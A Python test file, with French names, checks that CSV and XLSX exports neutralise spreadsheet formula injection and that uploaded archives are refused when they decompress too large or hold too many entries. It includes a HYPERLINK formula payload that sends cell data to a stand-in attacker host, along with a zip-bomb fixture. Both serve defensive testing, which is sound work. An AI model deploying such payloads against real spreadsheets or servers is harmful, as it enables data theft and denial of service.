from decimal import Decimal

from config.lib.euros import euros


def test_it_formats_amounts_in_french():
    assert euros(Decimal("1234567.5")) == "1\u202f234\u202f567,50 €"


# --- Tableurs : aucune cellule exportée ne devient une formule ------------------------------------------------

FORMULE = '=HYPERLINK("https://pirate.example/?"&A1,"Cliquez")'


def test_csv_prefixes_text_a_spreadsheet_would_read_as_a_formula():
    import csv
    import io
    from datetime import date

    from config.lib.tableurs import csv_en_flux

    lignes = [
        [FORMULE, "+33 2 99", "-moins", "@SOMME(A1)", "\tTab", "\rRetour", "Normal", "a=b"],
        [Decimal("-12.50"), -3, 2.5, date(2027, 1, 31), None, "", "'déjà", "1"],
    ]
    texte = "".join(csv_en_flux([f"c{i}" for i in range(8)], lignes))
    lues = list(csv.reader(io.StringIO(texte, newline="")))
    assert lues[1] == ["'" + FORMULE, "'+33 2 99", "'-moins", "'@SOMME(A1)", "'\tTab", "'\rRetour", "Normal", "a=b"]
    # Les nombres restent des nombres, même négatifs ; seul le texte est protégé.
    assert lues[2] == ["-12.50", "-3", "2.5", "2027-01-31", "", "", "'déjà", "1"]


def test_xlsx_writes_text_as_text_and_numbers_as_numbers():
    import io
    import zipfile
    from datetime import date

    from openpyxl import load_workbook

    from config.lib.tableurs import classeur_xlsx

    contenu = classeur_xlsx("Feuille", ["Nom", "Montant", "Date", "Vide"], [[FORMULE, -12.5, date(2027, 1, 31), None]])
    with zipfile.ZipFile(io.BytesIO(contenu)) as archive:
        feuille = archive.read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in feuille
    ligne = next(load_workbook(io.BytesIO(contenu)).active.iter_rows(min_row=2))
    assert (ligne[0].value, ligne[0].data_type) == (FORMULE, "s")
    assert (ligne[1].value, ligne[1].data_type) == (-12.5, "n")
    assert ligne[2].value.date() == date(2027, 1, 31)
    assert ligne[3].value is None


def test_the_apostrophe_added_on_export_is_removed_on_import():
    from config.lib.tableurs import sans_protection

    assert sans_protection("'" + FORMULE) == FORMULE
    assert sans_protection("'-moins") == "-moins"
    assert sans_protection("'déjà") == "'déjà"
    assert sans_protection("Normal") == "Normal"


# --- Archives déposées : taille décompressée et nombre d'entrées bornés ----------------------------------


def test_it_refuses_an_archive_that_expands_beyond_the_limit():
    import io
    import zipfile

    import pytest

    from config.lib import archives
    from tests.archives import MO, archive_zip

    bombe = archive_zip({"mimetype": "application/vnd.oasis.opendocument.text", "content.xml": 210 * MO})
    assert len(bombe) < MO
    with zipfile.ZipFile(io.BytesIO(bombe)) as archive, pytest.raises(archives.ArchiveRefusee, match="Mo une fois"):
        archives.verifier_archive(archive, "statuts.odt")


def test_it_refuses_an_archive_of_too_many_entries():
    import io
    import zipfile

    import pytest

    from config.lib import archives
    from tests.archives import archive_zip

    contenu = archive_zip({f"f{i}.xml": "" for i in range(archives.NOMBRE_ENTREES_MAXIMUM + 1)})
    with zipfile.ZipFile(io.BytesIO(contenu)) as archive, pytest.raises(archives.ArchiveRefusee, match="entrées"):
        archives.verifier_archive(archive, "statuts.odt")


def test_xlsx_export_survives_control_characters_pasted_from_a_word_processor():
    import io

    from openpyxl import load_workbook

    from config.lib.tableurs import classeur_xlsx

    # Un saut de ligne de traitement de texte (tabulation verticale) collé dans une description.
    contenu = classeur_xlsx("Feuille", ["Description"], [["Ligne 1\x0bLigne 2\x07"]])
    assert load_workbook(io.BytesIO(contenu)).active["A2"].value == "Ligne 1\nLigne 2"
